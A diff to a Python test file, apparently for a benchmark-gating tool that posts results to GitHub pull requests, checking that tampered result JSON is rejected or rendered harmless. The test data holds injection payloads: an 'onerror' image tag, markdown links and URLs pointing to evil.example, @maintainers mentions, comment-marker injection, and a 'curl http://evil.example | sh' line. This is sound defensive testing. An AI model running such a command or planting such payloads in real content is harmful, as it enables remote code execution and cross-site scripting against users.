@@ -56,6 +56,11 @@ def test_a_tampered_gate_json_is_rejected_or_rendered_inert(repo: Path) -> None:
     result = data["scenarios"]["synthetic"]
     result["reasons"] = ["<img src=x onerror=alert(1)> [pwn](http://evil.example) @maintainers"]
     result["reproduce"] = ["curl http://evil.example | sh", "```", "<!-- benchgate:synthetic -->"]
+    result["meta"]["dataset"]["path"] = "x` [pwn](http://evil.example) <img src=x> `y"
+    result["meta"]["prompt_version"] = "@maintainers <b>v2</b>"
+    result["reliability"]["calls"]["retries"] = {"<img src=x>": 1, "[a](http://evil.example)": 2}
+    result["reliability"]["calls"]["requests"] = 5
+    result["reasons"].append("see http://evil.example/x and www.evil.example")
     path.write_text(json.dumps(data))
     with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
         github.add_issue(OWNER, REPO, PR)
@@ -69,6 +74,14 @@ def test_a_tampered_gate_json_is_rejected_or_rendered_inert(repo: Path) -> None:
         assert not [
             t for t in tokens + inline if t.type in ("html_block", "html_inline") and "<img" in t.content
         ]
+        texts = [t.content for t in inline if t.type == "text"]
+        assert not [t for t in texts if "://evil" in t or "www.evil" in t or "@maintainers" in t], texts
+        assert "<img src=x>` ×1" in body
+
+        result["head"]["sha"] = "not-a-sha`<img>"
+        path.write_text(json.dumps(data))
+        assert publish(repo, github).returncode == 2  # type: ignore[attr-defined]
+        result["head"]["sha"] = None
 
         result["scenario"] = "synthetic --> <!-- benchgate:other"
         path.write_text(json.dumps(data))
